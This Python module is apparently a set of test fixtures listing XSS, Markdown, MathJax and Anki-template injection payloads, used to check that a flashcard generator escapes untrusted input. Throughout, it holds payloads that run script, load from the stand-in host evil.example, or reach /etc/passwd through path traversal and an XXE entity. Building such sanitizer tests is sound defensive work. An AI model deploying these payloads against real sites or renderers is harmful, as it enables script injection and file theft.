"""Attacks that a question may contain, by malice or because it is about attacks; from public cheat sheets.

Each calls `pwn()` if it runs. Those in `LITERAL` must be shown exactly as written; in `MARKDOWN`, markup may be
rendered.
"""

from __future__ import annotations

_EVIL = "https://evil.example/x"
_TAGS = """script img svg iframe object embed video audio body input form button details marquee math style link meta
base frameset table textarea select keygen applet template noscript xmp plaintext title noembed annotation-xml
foreignObject animate set use image a b div p br hr h1 font center xss x-y""".split()
_HANDLERS = """onerror onload onclick onmouseover onfocus onblur ontoggle onpointerenter onpointerdown onanimationstart
onanimationend ontransitionend onbegin onend onrepeat onscroll onwheel onresize onhashchange onpageshow onmessage
onbeforeprint oncopy oncut onpaste ondrag ondrop oninput onchange oninvalid onreset onsubmit onsearch onselect onkeydown
onkeypress onkeyup oncontextmenu ondblclick onplay oncanplay onloadstart onloadeddata ontimeupdate onratechange
onafterscriptexecute onbeforescriptexecute onfinish onstart onbounce""".split()
_HOSTS = ("img src=x", "svg", "body", "details open", "video autoplay", "input autofocus", "a href=#", "div")
_SCHEMES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "javascript&colon;pwn()",
    "&#106;avascript:pwn()",
    "&#x6A;avascript:pwn()",
    "&#0000106avascript:pwn()",
    "java&#x09;script:pwn()",
    "java&#10;script:pwn()",
    "java&Tab;script:pwn()",
    "java&NewLine;script:pwn()",
    "&#1;javascript:pwn()",
    "&#14;javascript:pwn()",
    "javascript&#58;pwn()",
    "javascript%3apwn()",
    "%6aavascript:pwn()",
    "javascript://%0apwn()",
    "javascript:/*-->*/pwn()",
    "vbscript:pwn()",
    "livescript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=pwn()>",
    "DATA:text/html,pwn",
    "blob:https://evil.example/1",
    "feed:javascript:pwn()",
    "view-source:javascript:pwn()",
    "jar:javascript:pwn()!/",
    "about:blank",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "ws://evil.example/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "/etc/passwd",
    "C:\\windows\\win.ini",
)
_FORMS = ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][r{n}]\n\n[r{n}]: {}", '[x](https://e.org "{}")')

_SCRIPTS = (
    "<script>pwn()</script>",
    "<SCRIPT>pwn()</SCRIPT>",
    f"<script src={_EVIL}.js></script>",
    "<script\x0c>pwn()</script >",
    "<script/x>pwn()</script/x>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<<script>pwn();//<</script>",
    "<script>pwn()//",
    "<ScRiPt a=b>pwn()</sCrIpT c=d>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "</script><script>pwn()</script>",
    "</style><script>pwn()</script>",
    "</title><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</pre></code><script>pwn()</script>",
    "</div></li></ol><script>pwn()</script>",
    "</details><script>pwn()</script>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<template><script>pwn()</script></template>",
    "<b <script>pwn()</script>0",
    '<IMG """><SCRIPT>pwn()</SCRIPT>">',
)
_MUTATIONS = (
    "<svg><style><img src=x onerror=pwn()></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwn()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>pwn()</script>'>",
    "<math href=javascript:pwn()>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwn()</script>'></iframe></foreignObject></svg>",
    "<svg><script xlink:href=data:,pwn() />",
    "<svg><a xlink:href=javascript:pwn()><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:pwn() /><a id=x>x</a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn()>#x'/></svg>",
    f"<svg><image href={_EVIL}.png></image></svg>",
    "<svg><![CDATA[><img src=x onerror=pwn()>]]></svg>",
    "<svg><desc><![CDATA[</desc><script>pwn()</script>]]></svg>",
    "<noembed><img title='</noembed><img src onerror=pwn()>'></noembed>",
    "<xmp><p title='</xmp><svg/onload=pwn()>'>",
    "<listing>&lt;img onerror=pwn() src=x&gt;</listing>",
    "<a href='&#x3c;img src=x onerror=pwn()&#x3e;'>x</a>",
    "<img alt='`><img src=x onerror=pwn()>'>",
    "<p id='--!><img src=x onerror=pwn()>'>",
    "<select><template><img src=x onerror=pwn()></template></select>",
    "<table><tr><td background=javascript:pwn()>x",
    "<iframe srcdoc='&lt;img src=x onerror=parent.pwn()&gt;'></iframe>",
    "<object data=data:text/html,pwn></object>",
    "<embed src=javascript:pwn()>",
    f"<base href={_EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    f"<link rel=stylesheet href={_EVIL}.css>",
    f"<link rel=prefetch href={_EVIL}>",
    "<form action=javascript:pwn()><input type=submit></form>",
    "<button formaction=javascript:pwn()>x</button>",
    "<isindex action=javascript:pwn() type=image>",
    "<input type=image src=x onerror=pwn()>",
    f"<video poster={_EVIL}.png><source src={_EVIL}.mp4></video>",
    f"<audio src={_EVIL}.mp3 autoplay></audio>",
    f"<img srcset='{_EVIL}.png 1x'>",
    f"<picture><source srcset={_EVIL}.png><img src=x></picture>",
    f"<body background={_EVIL}.png>",
    f"<table background={_EVIL}.png>",
    f"<iframe src={_EVIL}></iframe>",
    f"<portal src={_EVIL}></portal>",
    f"<img src={_EVIL}.png>",
    f"<img src='{_EVIL}.png' alt='y'>",
)
_STYLES = (
    f"<style>@import '{_EVIL}.css';</style>",
    f"<style>*{{background:url({_EVIL}.png)}}</style>",
    "<div style='width:expression(pwn())'>x</div>",
    f"<div style='background:url({_EVIL}.png)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    '<div style="behavior:url(#x)">x</div>',
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
    "<style>.ankigen{display:none}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>",
    "<div class='verdict' hidden>x</div>",
)
_BREAKOUTS = (
    '"><img src=x onerror=pwn()>',
    "'><img src=x onerror=pwn()>",
    '" onmouseover=pwn() x="',
    "' autofocus onfocus=pwn() x='",
    "` onload=pwn() x=`"[2:],
    '"/><svg/onload=pwn()>',
    "--><img src=x onerror=pwn()>",
    "]]><img src=x onerror=pwn()>",
    "</p><img src=x onerror=pwn()>",
    "${pwn()}",
    "javascript:pwn()",
    "';pwn();//",
    '";pwn();//',
    "</script>",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "%3Cscript%3Epwn()%3C/script%3E",
    "＜script＞pwn()＜/script＞",
    "{{constructor.constructor('pwn()')()}}",
)
_ANKI = (
    "[sound:x.mp3]",
    "[SOUND:x.mp3]",
    "[sound:../../x.mp3]",
    "[sound:https://evil.example/x.mp3]",
    "[latex]x[/latex]",
    "[LaTeX]x[/LaTeX]",
    "[$]x[/$]",
    "[$$]x[/$$]",
    "arr[$]; echo [/$]",
    "[anki:tts lang=en_US]x[/anki:tts]",
    "[anki:play:q:0]",
    "[anki:play:a:0]",
    "[[type:Id]]",
    "[[type:nc:Stem]]",
    "[[TYPE:Id]]",
    "{{Stem}}",
    "{{Id}}",
    "{{FrontSide}}",
    "{{#Stem}}x{{/Stem}}",
    "{{^Stem}}x{{/Stem}}",
    "{{hint:Stem}}",
    "{{type:Id}}",
    "{{tts en_US:Stem}}",
    "{{c1::x}}",
    "{{c1::x::y}}",
    "{{cloze:Stem}}",
    "{{=<% %>=}}",
    "<% x %>",
    "<anki-mathjax>x</anki-mathjax>",
    "<anki-editable>x</anki-editable>",
    "<img class=latex src=x>",
    "<a class=soundLink href=# onclick=pwn()>x</a>",
    "pycmd('ans')",
    "<img src='x' onerror=pycmd('ans')>",
    "]sound:[ [sound :x] [sound",
)
_CONTROLS = tuple(
    f"a{char}b" for char in "\x00\x01\x08\x0b\x0c\x0e\x1b\x1c\x1d\x1e\x1f\x7f\x85\u200b\u202e\u2028\ufeff\ufffe"
)

LITERAL = tuple(
    dict.fromkeys(
        [
            *_SCRIPTS,
            *_MUTATIONS,
            *_STYLES,
            *_BREAKOUTS,
            *_ANKI,
            *(f"<{tag} onload=pwn() onerror=pwn() src=x href=javascript:pwn()>" for tag in _TAGS),
            *(
                f"<{host} {name}=pwn()>"
                for i, name in enumerate(_HANDLERS)
                for host in (_HOSTS[i % 8], _HOSTS[(i + 1) % 8])
            ),
            *(f'<a href="{scheme}">x</a>' for scheme in _SCHEMES),
        ]
    )
)
MARKDOWN = (
    *(
        form.replace("{n}", str(i)).replace("{}", scheme)
        for i, scheme in enumerate(_SCHEMES)
        for form in (_FORMS[i % 6], _FORMS[(i + 1) % 6], _FORMS[(i + 3) % 6])
    ),
    "![x](x.png' onerror='pwn())",
    '![x](x.png"onerror="pwn())',
    '![" onerror="pwn()](x.png)',
    "[<img src=x onerror=pwn()>](https://e.org)",
    '[x](https://e.org"onmouseover="pwn())',
    "[x](https://e.org 'a\" onclick=\"pwn()')",
    '<https://e.org/"onmouseover="pwn()>',
    "<javascript:pwn()@e.org>",
    "``<script>pwn()</script>``",
    "~~<script>pwn()</script>~~ **<img src=x onerror=pwn()>**",
    "a[^1]<script>pwn()</script>\n\n[^1]: <img src=x onerror=pwn()>",
    r"\(x\) \<script>pwn()\</script>",
    r"$\href{javascript:pwn()}{x}$ $<img src=x onerror=pwn()>$",
    r"\(\href{javascript:pwn()}{x}\)",
    r"$\url{javascript:pwn()}$",
    r"$\bbox[background:url(https://evil.example/x)]{y}$",
    r"$\mmlToken{mi}[href='javascript:pwn()']{w}$",
    r"$\class{option}{c} \cssId{qa}{i} \data{x=1}{d}$",
    r"$\let\x\href \x{javascript:pwn()}{y}$",
    r"$\newcommand{\x}[1]{\href{#1}{y}} \x{javascript:pwn()}$",
    r"$\require{html} \unicode[url(//evil.example/x)]{x41}$",
    r"$\text{\href{javascript:pwn()}{x}}$",
    r"$\includegraphics{https://evil.example/x.png}$",
    r"$$\style{background:url(//evil.example/x)}{x}$$",
    r"\\(x\\) \\[x\\]",
    "$[sound:x.mp3]$ \\([latex]x[/latex]\\)",
    "\\[sound:x.mp3]",
    "[sound\\:x.mp3] &#91;sound:x.mp3]",
    "[**sound**:x.mp3] [sound:`x.mp3`]",
    "<!-- <script>pwn()</script> -->",
    "<!--><script>pwn()</script>-->",
    "<![CDATA[<script>pwn()</script>]]>",
    "<?xml <script>pwn()</script> ?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "- [ ] <script>pwn()</script>",
    "> <script>pwn()</script>",
    *_CONTROLS,
)
VECTORS = (*LITERAL, *MARKDOWN)

# Elements that a formula may try to bring onto a page.
IN_FORMULAS = (
    "<img/src=http://evil.example/>",
    "<link/rel=preconnect/href=http://evil.example>",
    "<style>@import'http://evil.example';</style>",
    "<iframe/src=http://evil.example></iframe>",
    "<script>pwn()</script>",
    "<svg/onload=pwn()></svg>",
    "<meta/http-equiv=refresh/content=0;url=http://evil.example>",
    "<base/href=http://evil.example>",
    "</mtext></math><img/src=x>",
    "<math/href=http://evil.example>",
    "<mi/style=background:url(http://evil.example)>",
    "<!--",
    "<annotation-xml/encoding=text/html><b>",
)
